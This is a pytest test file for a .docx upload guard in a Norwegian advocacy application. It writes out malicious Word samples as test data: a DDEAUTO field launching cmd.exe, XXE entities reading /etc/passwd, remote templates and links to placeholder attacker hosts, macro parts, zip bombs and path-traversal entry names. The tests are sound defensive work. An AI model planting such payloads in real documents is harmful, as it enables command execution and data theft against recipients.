"""The upload guard: each trick gets its own small hostile file, built here from a real .docx."""

from __future__ import annotations

import io
import os
import zipfile

import pytest

from advocacy.documents import BUNDLED, PreparedTemplate, UploadRefused, check_upload
from advocacy.errors import AdvocacyError

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@pytest.fixture
def good(make_docx) -> bytes:
    return make_docx(["Kjære {{ mottaker_navn }}", "Med vennlig hilsen"]).read_bytes()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def with_body(data: bytes, rezip, xml: str) -> bytes:
    document = part(data, "word/document.xml").replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
    return rezip(data, {"word/document.xml": document})


def with_relationship(data: bytes, rezip, kind: str, target: str, external=True) -> bytes:
    rels = part(data, "word/_rels/document.xml.rels")
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rId99" Type="{REL}{kind}" Target="{target}"{mode}/>'
    return rezip(
        data,
        {
            "word/_rels/document.xml.rels": rels.replace(
                b"</Relationships>", rel.encode() + b"</Relationships>"
            )
        },
    )


def refused(filename: str, data: bytes, *, max_bytes=None) -> str:
    with pytest.raises(UploadRefused) as info:
        if max_bytes is None:
            check_upload(filename, data)
        else:
            check_upload(filename, data, max_bytes=max_bytes)
    assert isinstance(info.value, AdvocacyError)
    assert info.value.message.endswith("Filen er avvist.")
    return info.value.message


def test_good_templates_pass(good):
    check_upload("mal.docx", good)
    for template in BUNDLED.values():
        check_upload(template.path.name, template.path.read_bytes())


def test_harmless_fields_and_hyperlinks_pass(good, rezip):
    data = with_body(
        good,
        rezip,
        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> HYPERLINK "https://iogt.no/include" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )
    data = with_relationship(data, rezip, "hyperlink", "https://iogt.no/")
    check_upload("mal.docx", data)


def test_zip_bomb_ratio(good, rezip):
    data = rezip(good, add={"word/media/fyll.bin": b"\0" * 5_000_000})
    assert "zip-bombe" in refused("mal.docx", data)


def test_too_many_entries(good, rezip):
    data = rezip(good, add={f"word/media/bilde{i}.txt": b"x" for i in range(1_001)})
    assert "for mange deler" in refused("mal.docx", data)


def test_too_large_unpacked(good, rezip):
    # 1 KB blocks of 24 random bytes and zeros: about 40:1, so under the ratio limit and the
    # 10 MB file limit, but 62 MB unpacked.
    block = b"".join(os.urandom(24) + b"\0" * 1000 for _ in range(1024))
    data = rezip(good, add={f"word/media/del{i}.bin": block * 1 for i in range(62)})
    assert len(data) < 10 * 1024 * 1024
    assert "pakkes ut" in refused("mal.docx", data)


def test_too_large_file():
    data = b"PK\x03\x04" + os.urandom(10 * 1024 * 1024 + 1)
    assert "for stor" in refused("mal.docx", data)


def test_size_limit_is_a_parameter(good):
    assert "for stor" in refused("mal.docx", good, max_bytes=1_000)


@pytest.mark.parametrize(
    "declaration",
    ['<!DOCTYPE w:document [<!ENTITY e "boom">]>', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
)
def test_dtd_and_entities(good, rezip, declaration):
    document = part(good, "word/document.xml")
    head, rest = document.split(b"?>", 1)
    data = rezip(good, {"word/document.xml": head + b"?>" + declaration.encode() + rest})
    assert "DTD" in refused("mal.docx", data)


def test_dtd_hidden_in_utf16(good, rezip):
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
    data = rezip(good, add={"word/customXml.xml": xml.encode("utf-16")})
    assert "DTD" in refused("mal.docx", data)


def test_external_attached_template(good, rezip):
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}attachedTemplate" '
        'Target="http://angriper.example/mal.dotm" TargetMode="External"/></Relationships>'
    )
    data = rezip(good, add={"word/_rels/settings.xml.rels": settings_rels})
    assert "ekstern mal" in refused("mal.docx", data)


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("subDocument", "underdokument"),
        ("oleObject", "objekt (OLE)"),
        ("frame", "ramme"),
        ("image", "ekstern fil"),
    ],
)
def test_external_links(good, rezip, kind, words):
    data = with_relationship(good, rezip, kind, "file://///angriper.example/del/x")
    assert words in refused("mal.docx", data)


def test_dde_field(good, rezip):
    data = with_body(
        good,
        rezip,
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
    )
    assert refused("mal.docx", data) == (
        "Malen inneholder et DDE-felt, som kan kjøre kommandoer. Filen er avvist."
    )


@pytest.mark.parametrize(
    "pieces", [(" IN", "CLUDETEXT ", '"C:\\\\hemmelig.docx"'), (" dd", "e ", "cmd")]
)
def test_field_split_across_runs(good, rezip, pieces):
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    data = with_body(
        good,
        rezip,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>resultat</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )
    message = refused("mal.docx", data)
    assert "INCLUDETEXT-felt" in message or "DDE-felt" in message


def test_nested_includepicture(good, rezip):
    data = with_body(
        good,
        rezip,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> INCLUDEPICTURE "http://sporing.example/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )
    assert "INCLUDEPICTURE" in refused("mal.docx", data)


def test_docm_by_name(good):
    assert "makroer" in refused("mal.docm", good)


def test_macro_content_type(good, rezip):
    types = (
        part(good, "[Content_Types].xml")
        .replace(
            b"wordprocessingml.document.main+xml",
            b"wordprocessingml.document.macroEnabled.main+xml",
        )
        .replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.macroEnabled",
            b"application/vnd.ms-word.document.macroEnabled",
        )
    )
    data = rezip(good, {"[Content_Types].xml": types})
    assert "makroer" in refused("mal.docx", data)


def test_vba_project(good, rezip):
    data = rezip(good, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"makro" * 50})
    assert "makroer (VBA)" in refused("mal.docx", data)


def test_not_a_zip():
    assert "ikke et Word-dokument" in refused("mal.docx", b"Dette er bare tekst.\n")


def test_renamed_text_file(tmp_path):
    path = tmp_path / "brev.docx"
    path.write_text("Kjære {{ navn }}", encoding="utf-8")
    assert "ikke et Word-dokument" in refused(path.name, path.read_bytes())


def test_wrong_extension(good):
    assert "Bare Word-dokumenter (.docx)" in refused("brev.txt", good)
    assert "Bare Word-dokumenter (.docx)" in refused("brev.doc", good)


def test_zip_without_document(rezip, good):
    data = rezip(good, {"word/document.xml": None})
    assert "mangler dokumentdelen" in refused("mal.docx", data)


def test_broken_zip(good):
    assert "ikke et gyldig Word-dokument" in refused("mal.docx", good[: len(good) // 2])


@pytest.mark.parametrize(
    "name", ["../utenfor.txt", "/etc/cron.d/x", "word/../../x.xml", "C:/x.txt"]
)
def test_path_traversal_names(good, rezip, name):
    data = rezip(good, add={name: b"x"})
    assert "ulovlig navn" in refused("mal.docx", data)


def test_encrypted_entry(good):
    # zipfile cannot write encrypted entries, so set the "encrypted" flag in both headers by hand.
    data = bytearray(good)
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        info = archive.getinfo("word/document.xml")
        central = data.index(b"PK\x01\x02", archive.start_dir)
        while data[central + 46 : central + 46 + len(info.filename)] != info.filename.encode():
            central = data.index(b"PK\x01\x02", central + 4)
    data[info.header_offset + 6] |= 0x1
    data[central + 8] |= 0x1
    assert "kryptert" in refused("mal.docx", bytes(data))


def test_guard_runs_before_the_parser(good, rezip):
    data = with_body(good, rezip, '<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')
    with pytest.raises(UploadRefused):
        PreparedTemplate(data, filename="mal.docx")
